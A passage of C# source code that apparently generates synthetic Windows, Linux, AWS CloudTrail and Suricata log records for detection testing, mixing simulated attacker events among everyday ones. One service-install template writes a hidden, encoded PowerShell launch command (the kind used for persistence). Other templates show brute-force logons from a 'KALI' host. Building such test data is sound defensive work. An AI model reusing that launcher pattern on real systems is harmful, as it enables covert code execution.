                ["event"] = new JsonObject { ["code"] = "1", ["kind"] = "event", ["provider"] = "Microsoft-Windows-Sysmon", ["module"] = "sysmon" },
                ["host"] = new JsonObject { ["name"] = context.Host.ToLowerInvariant() },
                ["winlog"] = new JsonObject
                {
                    ["channel"] = SysmonChannel,
                    ["event_id"] = "1",
                    ["computer_name"] = context.Host + ".corp.acmeridge.local",
                    ["provider_name"] = "Microsoft-Windows-Sysmon",
                    ["event_data"] = ProcessData(process, context, user),
                },
                ["process"] = new JsonObject
                {
                    ["executable"] = context.Vary(process.Image.Replace("{user}", user, StringComparison.Ordinal)),
                    ["command_line"] = context.Vary(process.CommandLine.Replace("{user}", user, StringComparison.Ordinal)),
                    ["pid"] = context.Pid,
                },
            };
        }

        var record = Sysmon(1, context);
        foreach (var (key, value) in ProcessData(process, context, user))
        {
            record[key] = value?.DeepClone();
        }

        return record;
    }

    private static JsonObject ProcessData(Process process, Context context, string user) => new()
    {
        ["RuleName"] = "-",
        ["UtcTime"] = context.Time.ToString("yyyy-MM-dd HH:mm:ss.fff", CultureInfo.InvariantCulture),
        ["ProcessGuid"] = context.Guid,
        ["ProcessId"] = context.Pid.ToString(CultureInfo.InvariantCulture),
        ["Image"] = context.Vary(process.Image.Replace("{user}", user, StringComparison.Ordinal)),
        ["FileVersion"] = "10.0.19041.1 (WinBuild.160101.0800)",
        ["Description"] = Path.GetFileNameWithoutExtension(process.Image.Replace('\\', '/')),
        ["Product"] = "Microsoft® Windows® Operating System",
        ["Company"] = "Microsoft Corporation",
        ["OriginalFileName"] = process.OriginalFileName,
        ["CommandLine"] = context.Vary(process.CommandLine.Replace("{user}", user, StringComparison.Ordinal)),
        ["CurrentDirectory"] = $"C:\\Users\\{user}\\",
        ["User"] = $"ACMERIDGE\\{user}",
        ["LogonGuid"] = "{126e79e2-c2d3-65e4-2f1b-0a0000000000}",
        ["LogonId"] = "0x1b2f0a",
        ["TerminalSessionId"] = "1",
        ["IntegrityLevel"] = context.Index % 5 == 0 ? "High" : "Medium",
        ["Hashes"] = $"SHA256={context.Hash},IMPHASH=9C0A3B52D1E4F7A8B6C5D4E3F2A1B0C9",
        ["ParentProcessGuid"] = "{126e79e2-c2d3-65e4-1a00-000000000a00}",
        ["ParentProcessId"] = "4312",
        ["ParentImage"] = process.ParentImage.Replace("{user}", user, StringComparison.Ordinal),
        ["ParentCommandLine"] = process.ParentImage.Replace("{user}", user, StringComparison.Ordinal),
        ["ParentUser"] = $"ACMERIDGE\\{user}",
    };

    private static JsonObject SecurityProcess(Context context)
    {
        var process = context.Process(EverydayProcesses, AttackerProcesses);
        var record = Windows("Security", "Microsoft-Windows-Security-Auditing", 4688, context);
        record["SubjectUserName"] = context.User;
        record["SubjectDomainName"] = "ACMERIDGE";
        record["NewProcessId"] = "0x" + context.Pid.ToString("x", CultureInfo.InvariantCulture);
        record["NewProcessName"] = context.Vary(process.Image.Replace("{user}", context.User, StringComparison.Ordinal));
        record["TokenElevationType"] = "%%1938";
        record["CommandLine"] = context.Vary(process.CommandLine.Replace("{user}", context.User, StringComparison.Ordinal));
        record["ParentProcessName"] = process.ParentImage.Replace("{user}", context.User, StringComparison.Ordinal);
        record["MandatoryLabel"] = "S-1-16-8192";
        return record;
    }

    private static JsonObject SysmonNetwork(Context context)
    {
        var (image, destination, host, port) = context.Pick(Connections);
        var record = Sysmon(3, context);
        record["Image"] = image;
        record["User"] = $"ACMERIDGE\\{context.User}";
        record["Protocol"] = "tcp";
        record["Initiated"] = "true";
        record["SourceIp"] = $"10.20.1.{20 + context.Index % 200}";
        record["SourcePort"] = (49152 + context.Index % 16000).ToString(CultureInfo.InvariantCulture);
        record["DestinationIp"] = destination;
        record["DestinationHostname"] = host;
        record["DestinationPort"] = port;
        return record;
    }

    private static JsonObject SysmonImageLoad(Context context)
    {
        var (image, loaded, original) = context.Pick(ImageLoads);
        var record = Sysmon(7, context);
        record["Image"] = image;
        record["ImageLoaded"] = loaded;
        record["OriginalFileName"] = original;
        record["Signed"] = "true";
        record["Signature"] = "Microsoft Windows";
        record["SignatureStatus"] = "Valid";
        return record;
    }

    private static JsonObject SysmonProcessAccess(Context context)
    {
        var (source, target, access) = context.Pick(ProcessAccesses);
        var record = Sysmon(10, context);
        record["SourceImage"] = source;
        record["TargetImage"] = target;
        record["GrantedAccess"] = access;
        record["CallTrace"] = @"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|UNKNOWN(00000000001A0B2C)";
        return record;
    }

    private static JsonObject SysmonFile(Context context)
    {
        var (image, target) = context.Pick(FileCreations);
        var record = Sysmon(11, context);
        record["Image"] = image;
        record["TargetFilename"] = context.Vary(target.Replace("{user}", context.User, StringComparison.Ordinal));
        return record;
    }

    private static JsonObject SysmonRegistry(Context context)
    {
        var (image, key, details) = context.Pick(RegistrySets);
        var record = Sysmon(13, context);
        record["EventType"] = "SetValue";
        record["Image"] = image;
        record["TargetObject"] = context.Vary(key);
        record["Details"] = details;
        return record;
    }

    private static JsonObject SysmonDns(Context context)
    {
        var (image, query) = context.Pick(DnsQueries);
        var record = Sysmon(22, context);
        record["Image"] = image;
        record["QueryName"] = query;
        record["QueryStatus"] = "0";
        record["QueryResults"] = "type:  5 edge.example.net;::ffff:198.51.100.30;";
        return record;
    }

    private static JsonObject PowerShellScript(Context context)
    {
        var record = Windows("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, context);
        record["MessageNumber"] = "1";
        record["MessageTotal"] = "1";
        record["ScriptBlockText"] = context.Vary(context.Pick(ScriptBlocks));
        record["ScriptBlockId"] = context.Guid;
        record["Path"] = "";
        return record;
    }

    private static JsonObject Logon(Context context)
    {
        var record = Windows("Security", "Microsoft-Windows-Security-Auditing", 4624, context);
        string[] types = ["2", "3", "3", "10", "5", "11"];
        record["TargetUserName"] = context.User;
        record["TargetDomainName"] = "ACMERIDGE";
        record["LogonType"] = context.Pick(types);
        record["LogonProcessName"] = context.Index % 3 == 0 ? "NtLmSsp " : "Kerberos";
        record["AuthenticationPackageName"] = context.Index % 3 == 0 ? "NTLM" : "Kerberos";
        record["WorkstationName"] = context.Host;
        record["IpAddress"] = $"10.20.1.{20 + context.Index % 200}";
        record["IpPort"] = "0";
        record["ProcessName"] = @"C:\Windows\System32\lsass.exe";
        record["ElevatedToken"] = "%%1843";
        return record;
    }

    private static JsonObject FailedLogon(Context context)
    {
        var record = Windows("Security", "Microsoft-Windows-Security-Auditing", 4625, context);
        record["TargetUserName"] = context.Index % 2 == 0 ? "administrator" : context.User;
        record["LogonType"] = "3";
        record["Status"] = "0xC000006D";
        record["SubStatus"] = context.Index % 2 == 0 ? "0xC0000064" : "0xC000006A";
        record["IpAddress"] = "77.83.247.201";
        record["WorkstationName"] = "KALI";
        return record;
    }

    private static JsonObject SpecialLogon(Context context)
    {
        var record = Windows("Security", "Microsoft-Windows-Security-Auditing", 4672, context);
        record["SubjectUserName"] = context.User;
        record["PrivilegeList"] = "SeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeDebugPrivilege";
        return record;
    }

    private static JsonObject ServiceInstall(Context context)
    {
        var record = Windows("System", "Service Control Manager", 7045, context);
        var malicious = context.Index % 2 == 1;
        record["ServiceName"] = malicious ? "WinUpdSvc" : "Veeam Agent";
        record["ImagePath"] = malicious ? @"%COMSPEC% /c powershell -nop -w hidden -enc SQBFAFgA" : @"C:\Program Files\Veeam\Backup\veeam.agent.exe";
        record["ServiceType"] = "user mode service";
        record["StartType"] = "auto start";
        record["AccountName"] = "LocalSystem";
        return record;
    }

    private static JsonObject CloudTrail(Context context)
    {
        var call = context.Pick(CloudTrailCalls).Split('/');
        return new JsonObject
        {
            ["eventVersion"] = "1.09",
            ["userIdentity"] = new JsonObject
            {
                ["type"] = "IAMUser",
                ["principalId"] = "AIDAV7QJ3EXAMPLEM2LP",
                ["arn"] = $"arn:aws:iam::410987652231:user/{context.User}",
                ["accountId"] = "410987652231",
                ["userName"] = context.User,
            },
            ["eventTime"] = context.Time.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture),
            ["eventSource"] = call[0],
            ["eventName"] = call[1],
            ["awsRegion"] = "eu-west-1",
            ["sourceIPAddress"] = context.Index % 5 == 0 ? "91.214.65.140" : "82.132.45.17",
            ["userAgent"] = context.Index % 3 == 0 ? "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0" : "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
            ["requestParameters"] = new JsonObject { ["bucketName"] = "acme-payroll-exports" },
            ["eventID"] = context.Guid.Trim('{', '}'),
            ["eventType"] = "AwsApiCall",
            ["recipientAccountId"] = "410987652231",
        };
    }

    private static JsonObject LinuxProcess(Context context)
    {
        var process = context.Pick(LinuxProcesses);
        return new JsonObject
        {
            ["@timestamp"] = context.Time.ToString("yyyy-MM-dd'T'HH:mm:ss.fff'Z'", CultureInfo.InvariantCulture),
            ["agent"] = new JsonObject { ["type"] = "auditbeat" },
            ["event"] = new JsonObject { ["kind"] = "event", ["category"] = new JsonArray("process"), ["type"] = new JsonArray("start"), ["action"] = "executed" },
            ["host"] = new JsonObject { ["name"] = "bastion-01", ["os"] = new JsonObject { ["type"] = "linux", ["family"] = "debian" } },
            ["user"] = new JsonObject { ["name"] = context.Index % 4 == 0 ? "root" : "deploy" },
            ["process"] = new JsonObject
            {
                ["pid"] = context.Pid,
                ["executable"] = process.Image,
                ["command_line"] = process.CommandLine,
                ["parent"] = new JsonObject { ["executable"] = process.ParentImage, ["pid"] = 4412 },
            },
        };
    }

    private static JsonObject SuricataDns(Context context) => new()
    {
        ["timestamp"] = context.Time.ToString("yyyy-MM-dd'T'HH:mm:ss.ffffff'+0000'", CultureInfo.InvariantCulture),
        ["flow_id"] = 148837282763993L + context.Index,
        ["in_iface"] = "ens192",
        ["event_type"] = "dns",
        ["src_ip"] = $"10.20.1.{20 + context.Index % 200}",
        ["src_port"] = 50000 + context.Index % 10000,
        ["dest_ip"] = "10.20.0.10",
        ["dest_port"] = 53,
        ["proto"] = "UDP",
        ["dns"] = new JsonObject { ["type"] = "query", ["id"] = context.Index % 65536, ["rrname"] = context.Pick(DnsNames), ["rrtype"] = "A", ["tx_id"] = 0 },
        ["host"] = "ids-core-01",
    };

    private static JsonObject Sysmon(int eventId, Context context)
    {
        var record = Windows(SysmonChannel, "Microsoft-Windows-Sysmon", eventId, context);
        record["UtcTime"] = context.Time.ToString("yyyy-MM-dd HH:mm:ss.fff", CultureInfo.InvariantCulture);
        record["ProcessGuid"] = context.Guid;
        record["ProcessId"] = context.Pid.ToString(CultureInfo.InvariantCulture);
        return record;
    }

    /// <summary>A Windows record as NXLog writes it: the system fields, then the event data at the top level.</summary>
    private static JsonObject Windows(string channel, string provider, int eventId, Context context) => new()
    {
        ["EventID"] = eventId,
        ["Channel"] = channel,
        ["SourceName"] = provider,
        ["Hostname"] = context.Host,
        ["TimeCreated"] = context.Time.ToString("yyyy-MM-dd HH:mm:ss.fff", CultureInfo.InvariantCulture),
        ["RecordNumber"] = 60000 + context.Index,
    };

    private sealed record Process(string Image, string OriginalFileName, string CommandLine, string ParentImage);

    /// <summary>What varies from record to record: time, host, user, ids, and which template is used.</summary>
    private sealed class Context(int index, DeterministicRandom random)
    {
        public int Index => index;
        public DateTimeOffset Time { get; } = Start.AddMilliseconds(index * 250.0);
        public string Host { get; } = Hosts[index % Hosts.Length];
        public string User { get; } = Users[(index / Hosts.Length) % Users.Length];
        public int Pid { get; } = 1000 + (int)(random.NextUInt64() % 60000);
        public string Guid { get; } = $"{{126e79e2-{random.NextUInt64() % 0xFFFF:x4}-65e4-{random.NextUInt64() % 0xFFFF:x4}-{random.NextUInt64() % 0xFFFFFFFFFFFF:x12}}}";
        public string Hash { get; } = $"{random.NextUInt64():X16}{random.NextUInt64():X16}{random.NextUInt64():X16}{random.NextUInt64():X16}";

        /// <summary>The template to use; null to draw one.</summary>
        public int? Template { get; init; }

        /// <summary>Whether to write paths and command lines in another case, as Windows does not care.</summary>
        public bool ShuffleCase { get; init; }

        public T Pick<T>(IReadOnlyList<T> items) => items[Template is { } t ? t % items.Count : (int)(random.NextUInt64() % (ulong)items.Count)];

        /// <summary>An everyday process mostly; an attacker's one in twenty-five draws.</summary>
        public Process Process(Process[] everyday, Process[] attacker)
        {
            if (Template is { } t)
            {
                return t < everyday.Length ? everyday[t] : attacker[(t - everyday.Length) % attacker.Length];
            }

            return random.NextUInt64() % 25 == 0 ? Pick(attacker) : Pick(everyday);
        }

        public string Vary(string text) => !ShuffleCase ? text : index % 2 == 0 ? text.ToUpperInvariant() : text.ToLowerInvariant();
    }
}
